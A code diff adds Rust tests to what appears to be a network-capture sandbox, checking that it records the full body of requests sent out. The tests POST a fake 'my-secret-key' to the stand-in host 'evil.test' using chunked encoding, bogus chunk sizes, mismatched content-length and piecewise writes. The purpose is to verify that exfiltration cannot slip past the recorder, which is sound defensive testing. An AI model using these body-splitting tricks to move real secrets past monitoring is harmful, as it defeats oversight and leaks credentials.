@@ -149,6 +149,65 @@ async fn a_protocol_that_begins_like_a_request_is_kept_as_it_is() {
     }
 }
 
+/// Sends a request in these pieces and returns every part of it that was kept.
+async fn kept_of(pieces: &[&str], stays_open: bool) -> Vec<String> {
+    let cell = cell();
+    let mut stream = cell.connect("evil.test", 80).await;
+    // A piece that waits for the acknowledgement of the one before would be lost with the connection.
+    stream.set_nodelay(true).unwrap();
+    for piece in pieces {
+        // Who has heard enough may have closed the connection, which is what must not happen.
+        let _ = stream.write_all(piece.as_bytes()).await;
+        // Lets the other side take each piece by itself.
+        for _ in 0..200 {
+            tokio::task::yield_now().await;
+        }
+    }
+    let open = stays_open.then_some(stream);
+    cell.guard.finish().await;
+    drop(open);
+    let sent = cell.internet.sent();
+    sent.iter().flat_map(|sent| &sent.parts).map(|(_, part)| String::from_utf8_lossy(part).into_owned()).collect()
+}
+
+const CHUNKED: &str = "transfer-encoding: chunked\r\n";
+
+#[tokio::test]
+async fn a_body_is_kept_whole_whatever_says_where_it_ends() {
+    for (version, header, pieces) in [
+        ("1.1", CHUNKED, &["4\r\nmy-s\r\n", "3;a=b\r\necr\r\n", "6\r\net-key\r\n0\r\n\r\n"][..]),
+        ("1.1", CHUNKED, &["4\r\nmy-s\r\n3\r\necr\r\n", "6\r\net-key\r\n"]),
+        ("1.1", CHUNKED, &["4\r\nmy-s\r\n", "ff\r\necret-key"]),
+        ("1.0", CHUNKED, &["4\r\nmy-s\r\n", "3\r\necr\r\n", "6\r\net-key\r\n0\r\n\r\n"]),
+        ("1.1", "transfer-encoding: gzip, identity\r\n", &["my-s", "ecret-key"]),
+        ("1.1", "connection: close\r\n", &["my-s", "ecret-key"]),
+        ("1.1", "", &["my-s", "ecret-key"]),
+        ("1.0", "", &["my-s", "ecret-key"]),
+        ("1.0", "content-length: 4\r\n", &["my-s", "ecret-key"]),
+        ("1.0", "content-length: 13\r\n", &["my-s", "ecret-key"]),
+        ("1.1", "content-length: 400\r\n", &["my-s", "ecret-key"]),
+    ] {
+        let head = format!("POST /a HTTP/{version}\r\nhost: evil.test\r\n{header}\r\n");
+        let all = format!("{head}{}", pieces.concat());
+        for pieces in [[&[&*head], pieces].concat(), vec![&*head, &*pieces.concat()], vec![&*all]] {
+            let kept = kept_of(&pieces, false).await;
+            assert!(kept.iter().any(|part| part.contains("my-secret-key")), "{pieces:?}: {kept:?}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_body_that_never_ends_is_kept_whole() {
+    let head = |version, header| format!("POST /a HTTP/{version}\r\nhost: evil.test\r\n{header}\r\n");
+    let (chunked, plain) = (head("1.1", CHUNKED), head("1.0", ""));
+    let chunked = [&*chunked, "4\r\nmy-s\r\n", "3\r\necr\r\n", "6\r\net-key\r\n"];
+    let plain = [&*plain, "my-s", "ecret-key"];
+    let (chunked, plain) = tokio::join!(kept_of(&chunked, true), kept_of(&plain, true));
+    for kept in [chunked, plain] {
+        assert!(kept.iter().any(|part| part.contains("my-secret-key")), "{kept:?}");
+    }
+}
+
 #[tokio::test]
 async fn what_is_said_on_a_connection_that_stays_open_is_kept() {
     let cell = cell();
